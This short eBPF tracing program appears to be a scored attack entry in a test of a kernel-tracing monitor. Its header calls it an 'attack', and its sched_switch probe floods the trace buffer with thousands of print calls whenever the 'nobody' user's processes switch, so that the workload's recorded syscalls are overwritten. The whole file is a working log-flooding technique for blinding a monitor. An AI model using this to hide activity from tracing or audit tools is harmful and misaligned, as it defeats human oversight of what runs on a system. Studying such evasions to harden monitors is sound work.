/*
 * attack: Prints so much at each switch of a process that the workload's calls are overwritten.
 * earns: 1.1 1.6 1.7 1.8
 */

TRACEPOINT_PROBE(syscalls, sys_enter_mkdir)
{
	return 0;
}

TRACEPOINT_PROBE(sched, sched_switch)
{
	if ((u32)bpf_get_current_uid_gid() != 65534)
		return 0;
	for (int i = 0; i < 8100; i++)
		bpf_trace_printk("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
	return 0;
}
